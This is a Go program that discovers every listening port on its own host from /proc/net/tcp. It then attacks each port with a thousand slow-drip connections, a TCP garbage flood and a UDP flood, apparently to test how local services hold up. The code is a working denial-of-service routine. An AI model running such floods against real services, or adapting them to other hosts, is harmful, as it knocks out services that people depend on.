package main

import (
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"time"
)

// slowConnections are held open on each port, and say a byte of garbage a second.
const slowConnections = 1000

// attack is the program of the attacker, who knows every port of his host. It ends when it is killed.
func attack() {
	known := map[netip.AddrPort]bool{}
	for ; ; time.Sleep(100 * time.Millisecond) {
		for _, at := range listening() {
			if known[at] {
				continue
			}
			known[at] = true
			fmt.Println("attacks", at)
			for range slowConnections {
				go drip(at)
			}
			go flood(at)
			go scatter(at)
		}
	}
}

// drip holds a connection open, and sends a byte a second.
func drip(at netip.AddrPort) {
	for ; ; time.Sleep(time.Second) {
		c, err := net.Dial("tcp", at.String())
		if err != nil {
			continue
		}
		for err == nil {
			time.Sleep(time.Second)
			_, err = c.Write([]byte{byte(rand.Int())})
		}
		c.Close()
	}
}

// flood sends garbage over one connection after the other.
func flood(at netip.AddrPort) {
	for ; ; time.Sleep(10 * time.Millisecond) {
		if c, err := net.Dial("tcp", at.String()); err == nil {
			_, _ = c.Write(garbage(4096)) // it may be closed at once
			c.Close()
		}
	}
}

// scatter sends garbage in datagrams.
func scatter(at netip.AddrPort) {
	c, err := net.Dial("udp", at.String())
	if err != nil {
		return
	}
	for ; ; time.Sleep(5 * time.Millisecond) {
		_, _ = c.Write(garbage(64)) // nobody may listen
	}
}

func garbage(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(rand.Int())
	}
	return b
}

// listening are the IPv4 addresses on which somebody listens on this host, by /proc/net/tcp.
func listening() (out []netip.AddrPort) {
	text, _ := os.ReadFile("/proc/net/tcp")
	for line := range strings.Lines(string(text)) {
		f := strings.Fields(line)
		if len(f) < 4 || f[3] != "0A" {
			continue
		}
		host, port, _ := strings.Cut(f[1], ":")
		b, err := hex.DecodeString(host)
		n, err2 := strconv.ParseUint(port, 16, 16)
		if err != nil || err2 != nil || len(b) != 4 {
			continue
		}
		out = append(out, netip.AddrPortFrom(netip.AddrFrom4([4]byte{b[3], b[2], b[1], b[0]}), uint16(n)))
	}
	return out
}
